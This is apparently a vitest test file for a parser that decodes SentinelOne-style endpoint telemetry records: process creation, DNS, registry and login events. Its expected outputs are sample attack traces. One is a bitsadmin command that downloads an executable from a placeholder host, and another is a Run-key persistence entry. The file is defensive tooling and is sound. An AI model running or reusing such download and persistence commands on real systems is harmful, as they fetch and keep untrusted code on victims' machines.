import {describe, expect, it} from 'vitest';
import {decodeRecord} from '../../../source/core/formats/index.js';
import {API_DNS, API_LOGIN, API_PROCESS_CREATION, API_REGISTRY} from '../../fixtures/formats/s1-api.js';
import {only} from '../../helpers/lists.js';

function one(value: unknown) {
	const events = decodeRecord({value: JSON.stringify(value), receivedAt: 1});
	const ev = only(events);
	expect(ev.format).toBe('s1-api');
	return ev;
}

describe('s1-api (DV query API camelCase)', () => {
	it('process creation: process* is the child, parent* the actor', () => {
		const ev = one(API_PROCESS_CREATION);
		expect(ev.category).toBe('Process Creation');
		expect(ev.host).toBe('WS03');
		expect(ev.os).toBe('windows');
		expect(ev.agentId).toBe('agent-api-1');
		expect(ev.time).toBe(Date.UTC(2024, 4, 1, 10, 0, 0, 123));
		expect(ev.actor).toMatchObject({name: 'cmd.exe', pid: 6000});
		expect(ev.target.process).toMatchObject({
			name: 'bitsadmin.exe',
			pid: 6100,
			image: 'C:\\Windows\\System32\\bitsadmin.exe',
			sha1: 'c'.repeat(40),
		});
		expect(ev.user).toBe('CORP\\alice');
		expect(ev.summary).toBe(
			'cmd.exe -> bitsadmin.exe /transfer /Download /priority Foreground https://example.test/a.exe C:\\Users\\alice\\a.exe',
		);
	});

	it('dns', () => {
		const ev = one(API_DNS);
		expect(ev.category).toBe('DNS');
		expect(ev.summary).toBe('chrome.exe DNS evil.example -> 93.184.216.34');
	});

	it('registry path with HKLM hive', () => {
		const ev = one(API_REGISTRY);
		expect(ev.category).toBe('Registry Value Modified');
		expect(ev.target.registry).toMatchObject({
			key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
			value: 'updater',
		});
	});

	it('login on linux', () => {
		const ev = one(API_LOGIN);
		expect(ev.category).toBe('Login');
		expect(ev.os).toBe('linux');
		expect(ev.user).toBe('root');
		expect(ev.summary).toBe('Login root NETWORK from 10.0.0.9');
	});

	it('unknown event types are "other" with the type as subtype', () => {
		const ev = one({eventType: 'Command Script', agentName: 'WS03', processName: 'powershell.exe'});
		expect(ev.category).toBe('other');
		expect(ev.subtype).toBe('Command Script');
	});
});
